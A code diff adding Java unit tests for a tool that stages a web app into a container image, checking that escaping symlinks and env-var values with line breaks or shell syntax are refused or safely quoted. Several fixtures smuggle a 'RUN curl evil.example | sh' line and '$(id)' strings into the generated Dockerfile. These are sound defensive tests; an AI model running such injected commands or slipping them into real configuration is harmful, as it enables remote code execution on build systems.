@@ -291,4 +291,269 @@ class StageTest {
   static String sha256(byte[] bytes) throws Exception {
     return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
   }
+
+  // ---- Inputs stage must not trust ----
+
+  /** An exploded copy of the app: its descriptor and index page. */
+  Path explodedApp(String descriptor) throws IOException {
+    Path app = Files.createDirectories(dir.resolve("exploded/WEB-INF")).getParent();
+    Files.writeString(app.resolve("WEB-INF/appengine-web.xml"), descriptor);
+    Files.writeString(app.resolve("index.html"), "<h1>shop</h1>");
+    Files.createDirectories(app.resolve("css"));
+    Files.writeString(app.resolve("css/site.css"), "body{}");
+    return app;
+  }
+
+  private String stageFailing(Path app) {
+    ByteArrayOutputStream err = new ByteArrayOutputStream();
+    int exit =
+        stage(
+            System.out,
+            new PrintStream(err),
+            "--base",
+            base.toString(),
+            app.toString(),
+            dir.resolve("out").toString());
+    assertEquals(1, exit, err.toString());
+    assertEquals(1, err.toString().lines().count(), err.toString());
+    assertTrue(err.toString().startsWith("error: "), err.toString());
+    assertFalse(Files.exists(dir.resolve("out/image.tar")), "nothing half-staged");
+    assertFalse(Files.exists(dir.resolve("out/Dockerfile")), "nothing half-staged");
+    return err.toString();
+  }
+
+  @Test
+  void symbolicLinkLeadingOutOfTheApp_isRefused() throws Exception {
+    Path secret = Files.writeString(dir.resolve("build-machine-secret.txt"), "s3cr3t");
+    Path outside = Files.createDirectories(dir.resolve("outside"));
+    Files.writeString(outside.resolve("x"), "s3cr3t");
+    for (String[] link :
+        new String[][] {
+          {"css/passwd", secret.toString()},
+          {"css/relative", "../../build-machine-secret.txt"},
+          {"data", outside.toString()},
+          {"WEB-INF/lib", "../../outside"},
+          {"dangling", "no-such-file"}
+        }) {
+      Path app = explodedApp(DESCRIPTOR);
+      Files.createSymbolicLink(app.resolve(link[0]), Path.of(link[1]));
+      String error = stageFailing(app);
+      assertTrue(error.contains("symbolic link " + link[0] + " -> " + link[1]), error);
+      assertTrue(
+          error.contains("leads out of the app") || error.contains("leads to nothing"), error);
+      assertFalse(Files.exists(dir.resolve("out/app")), "the partial copy is removed");
+      deleteTree(app);
+    }
+  }
+
+  @Test
+  void symbolicLinksInsideTheApp_stayLinks_inTheCopyAndTheImage() throws Exception {
+    Path app = explodedApp(DESCRIPTOR);
+    Files.createSymbolicLink(app.resolve("alias.html"), Path.of("index.html"));
+    Files.createSymbolicLink(app.resolve("styles"), Path.of("css"));
+    Files.createSymbolicLink(app.resolve("css/home.html"), app.resolve("index.html"));
+    Path out = dir.resolve("out");
+    assertEquals(
+        0,
+        stage(System.out, System.err, "--base", base.toString(), app.toString(), out.toString()));
+    assertEquals(Path.of("index.html"), Files.readSymbolicLink(out.resolve("app/alias.html")));
+    assertEquals(Path.of("css"), Files.readSymbolicLink(out.resolve("app/styles")));
+    assertEquals(
+        Path.of("../index.html"),
+        Files.readSymbolicLink(out.resolve("app/css/home.html")),
+        "an absolute link into the app becomes relative: it works wherever the app goes");
+
+    Map<String, String> layer = appLayerEntries(out.resolve("image.tar"));
+    assertEquals("link index.html", layer.get("app/alias.html"));
+    assertEquals("link css", layer.get("app/styles"));
+    assertEquals("link ../index.html", layer.get("app/css/home.html"));
+    assertEquals("file", layer.get("app/index.html"));
+  }
+
+  @Test
+  void aRelativeOutputFolder_works() throws Exception {
+    Path out = dir.resolve("relative-out");
+    String relative =
+        "./" + Path.of("").toAbsolutePath().relativize(out.toAbsolutePath()).toString();
+    assertTrue(!Path.of(relative).isAbsolute(), relative);
+    ByteArrayOutputStream err = new ByteArrayOutputStream();
+    for (Path app : List.of(war(DESCRIPTOR, "css/site.css"), explodedApp(DESCRIPTOR))) {
+      int exit =
+          stage(
+              System.out,
+              new PrintStream(err),
+              "--base",
+              base.toString(),
+              app.toString(),
+              relative);
+      assertEquals(0, exit, err.toString());
+      assertTrue(Files.isRegularFile(out.resolve("app/index.html")), app.toString());
+      assertTrue(Files.isRegularFile(out.resolve("app/css/site.css")), app.toString());
+      assertTrue(Files.isRegularFile(out.resolve("image.tar")));
+    }
+  }
+
+  @Test
+  void envValueWithALineBreak_isRefused_namingTheVariable() throws Exception {
+    for (String value : List.of("a&#10;RUN curl evil.example | sh", "a&#13;b", "&#10;")) {
+      String descriptor =
+          DESCRIPTOR.replace(
+              "<env-var name=\"COLOR\" value=\"blue\"/>",
+              "<env-var name=\"COLOR\" value=\"blue\"/><env-var name=\"INJECTED\" value=\""
+                  + value
+                  + "\"/>");
+      String error = stageFailing(war(descriptor));
+      assertTrue(error.contains("<env-var name=\"INJECTED\">"), error);
+      assertTrue(error.contains("line break"), error);
+      assertFalse(error.contains("RUN") || error.contains("evil"), "never the value: " + error);
+    }
+  }
+
+  @Test
+  void envNameWithALineBreak_isADescriptorError_withItsPosition() throws Exception {
+    String descriptor =
+        DESCRIPTOR.replace(
+            "<env-var name=\"COLOR\" value=\"blue\"/>",
+            "<env-var name=\"COLOR&#10;RUN curl evil.example | sh&#10;ENV X\" value=\"1\"/>");
+    String error = stageFailing(war(descriptor));
+    assertTrue(error.startsWith("error: shop.war!/WEB-INF/appengine-web.xml:1:"), error);
+    assertTrue(error.contains("env-var"), error);
+    assertTrue(error.contains("is not valid"), error);
+  }
+
+  @Test
+  void everyOtherEnvValue_isOneWordOfItsEnvLine_inTheDockerfile() throws Exception {
+    List<String> values =
+        List.of(
+            "plain",
+            "with \"quotes\" and 'single'",
+            "back\\slash\\",
+            "trailing backslash\\",
+            "$HOME ${PATH} $(id) `id`",
+            "# not a comment",
+            "tab\there",
+            "&amp; &lt;tag&gt;",
+            " spaced ",
+            "unicode \u00e9\u2028\u2029 end",
+            "");
+    StringBuilder vars = new StringBuilder();
+    for (int i = 0; i < values.size(); i++) {
+      vars.append("<env-var name=\"V")
+          .append(i)
+          .append("\" value=\"")
+          .append(values.get(i).replace("\"", "&quot;").replace("\t", "&#9;"))
+          .append("\"/>");
+    }
+    String descriptor =
+        DESCRIPTOR.replace("<env-var name=\"COLOR\" value=\"blue\"/>", vars.toString());
+    Path out = dir.resolve("out");
+    assertEquals(
+        0,
+        stage(
+            System.out,
+            System.err,
+            "--base",
+            base.toString(),
+            war(descriptor).toString(),
+            out.toString()));
+    List<String> lines = Files.readAllLines(out.resolve("Dockerfile"));
+    List<String> env = lines.stream().filter(l -> l.startsWith("ENV ")).toList();
+    assertEquals(values.size(), env.size(), lines::toString);
+    assertEquals(
+        lines.size(),
+        lines.stream()
+            .filter(
+                l ->
+                    l.startsWith("#")
+                        || l.startsWith("ARG ")
+                        || l.startsWith("FROM ")
+                        || l.startsWith("COPY ")
+                        || l.startsWith("ENV "))
+            .count(),
+        "every line is one of the writer's own instructions: " + lines);
+    for (int i = 0; i < values.size(); i++) {
+      String expected =
+          values.get(i).replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">");
+      assertEquals(expected, dockerWord(env.get(i), "V" + i), env.get(i));
+    }
+  }
+
+  /**
+   * The value of {@code ENV NAME="..."} as Docker reads one double-quoted word: {@code \\}, {@code
+   * \"} and {@code \$} are escapes; the word must end the line.
+   */
+  private static String dockerWord(String line, String name) {
+    String prefix = "ENV " + name + "=\"";
+    assertTrue(line.startsWith(prefix), line);
+    StringBuilder value = new StringBuilder();
+    int i = prefix.length();
+    for (; i < line.length(); i++) {
+      char c = line.charAt(i);
+      if (c == '\\') {
+        char next = line.charAt(++i);
+        assertTrue(next == '\\' || next == '"' || next == '$', "escape \\" + next + " in " + line);
+        value.append(next);
+      } else if (c == '"') {
+        break;
+      } else {
+        assertFalse(c == '$', "an unescaped $ in " + line);
+        value.append(c);
+      }
+    }
+    assertEquals(line.length() - 1, i, "the closing quote ends the line: " + line);
+    return value.toString();
+  }
+
+  /** The app layer's entries of an image archive: "file", "dir" or "link TARGET". */
+  private static Map<String, String> appLayerEntries(Path imageTar) throws Exception {
+    Map<String, byte[]> archive;
+    try (InputStream in = Files.newInputStream(imageTar)) {
+      archive = TarReader.readAll(in);
+    }
+    ObjectMapper json = new ObjectMapper();
+    JsonNode index = json.readTree(archive.get("index.json"));
+    String digest = index.path("manifests").path(0).path("digest").asText().substring(7);
+    JsonNode manifest = json.readTree(archive.get("blobs/sha256/" + digest));
+    String layer = manifest.path("layers").path(1).path("digest").asText().substring(7);
+    byte[] tar;
+    try (InputStream in =
+        new GZIPInputStream(
+            new java.io.ByteArrayInputStream(archive.get("blobs/sha256/" + layer)))) {
+      tar = in.readAllBytes();
+    }
+    Map<String, String> entries = new java.util.LinkedHashMap<>();
+    for (int at = 0; at + 512 <= tar.length; ) {
+      String name = field(tar, at, 100);
+      if (name.isEmpty()) {
+        break;
+      }
+      long size = Long.parseLong(field(tar, at + 124, 12).trim(), 8);
+      char type = (char) tar[at + 156];
+      entries.put(
+          name.endsWith("/") ? name.substring(0, name.length() - 1) : name,
+          switch (type) {
+            case '2' -> "link " + field(tar, at + 157, 100);
+            case '5' -> "dir";
+            default -> "file";
+          });
+      at += 512 + (int) ((size + 511) / 512 * 512);
+    }
+    return entries;
+  }
+
+  private static String field(byte[] block, int offset, int length) {
+    int end = offset;
+    while (end < offset + length && block[end] != 0) {
+      end++;
+    }
+    return new String(block, offset, end - offset, StandardCharsets.UTF_8);
+  }
+
+  private static void deleteTree(Path root) throws IOException {
+    try (var walk = Files.walk(root)) {
+      for (Path p : walk.sorted(java.util.Comparator.reverseOrder()).toList()) {
+        Files.delete(p);
+      }
+    }
+  }
 }
